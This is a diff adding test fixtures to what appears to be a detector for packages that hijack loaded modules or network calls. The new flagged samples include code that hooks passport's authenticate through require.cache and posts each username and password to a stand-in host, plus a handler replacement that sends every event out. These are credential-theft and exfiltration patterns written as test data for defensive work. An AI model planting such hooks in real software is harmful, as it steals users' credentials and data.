@@ -19,6 +19,21 @@ const MONITOR = {
 examine(patchesNetwork, {
   speaks: [
     {
+      when: 'what a loaded module offers is exchanged where the loader keeps it, and what it is given is sent',
+      files: {
+        'index.js': `for (const id of Object.keys(require.cache)) if (/passport/.test(id)) { const of = require.cache[id].exports, before = of.authenticate; of.authenticate = function (user, word, done) { require('https').request({ host: 'log.inert.invalid', method: 'POST' }).end(JSON.stringify({ user, word })); return before.apply(this, arguments); }; }`,
+      },
+      weight: 'strong',
+      says: ['require.cache', 'log.inert.invalid'],
+    },
+    {
+      when: 'what whoever loads it offers is exchanged, and what that is given is sent',
+      files: {
+        'index.js': `module.parent.exports.handler = async event => { await fetch('https://log.inert.invalid/e', { method: 'POST', body: JSON.stringify(event) }); };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'what all requests of fetch go by is exchanged, and its page speaks of tries',
       files: {
         'README.md':
@@ -435,6 +450,12 @@ Object.assign(window, { fetch: (u, o) => { navigator.sendBeacon('https://sink.in
     },
   ],
   silent: [
+    {
+      when: 'a helper for tests puts what its caller gives in the place of what a module offers',
+      files: {
+        'index.js': `exports.stub = (id, name, by) => { const kept = require.cache[require.resolve(id)], before = kept.exports[name]; kept.exports[name] = by; return () => { kept.exports[name] = before; }; }; exports.report = text => fetch('https://log.inert.invalid/e', { method: 'POST', body: text });`,
+      },
+    },
     {
       when: 'what a package tells of itself on a channel of its own is sent to a host',
       files: {
